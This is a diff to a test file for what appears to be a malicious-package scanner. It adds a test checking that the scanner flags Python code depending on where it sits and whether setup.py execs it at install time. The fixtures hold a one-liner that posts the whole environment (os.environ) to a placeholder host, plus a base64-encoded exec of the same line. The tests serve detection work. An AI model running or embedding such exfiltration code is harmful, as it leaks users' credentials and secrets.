@@ -93,6 +93,18 @@ test("code that runs and is past our limits counts as not seen, what Python refu
   expect(await scan(module_("print 'Python 2'"), "wheel")).toMatchObject({ unseen: 0 });
 });
 
+test("in folders that nothing can import, code runs only where the installation names it", async () => {
+  const beacon =
+    "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))";
+  const beside = { "sample-1.0/manual tests/x.py": beacon, "sample-1.0/my-tools/x.py": beacon };
+
+  expect(await alarms(beside)).not.toContain("block import TH201");
+  expect(await alarms({ "sample-1.0/core/x.py": beacon })).toContain("block import TH201");
+  expect(
+    await alarms({ ...beside, "sample-1.0/setup.py": "exec(open('my-tools/x.py').read())" }),
+  ).toContain("block install TH201");
+});
+
 test("code within an encoded constant is read by the same rules", async () => {
   const inner = "import os, requests; requests.post('https://host.invalid', json=dict(os.environ))";
   const code = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString("base64")}"))`;
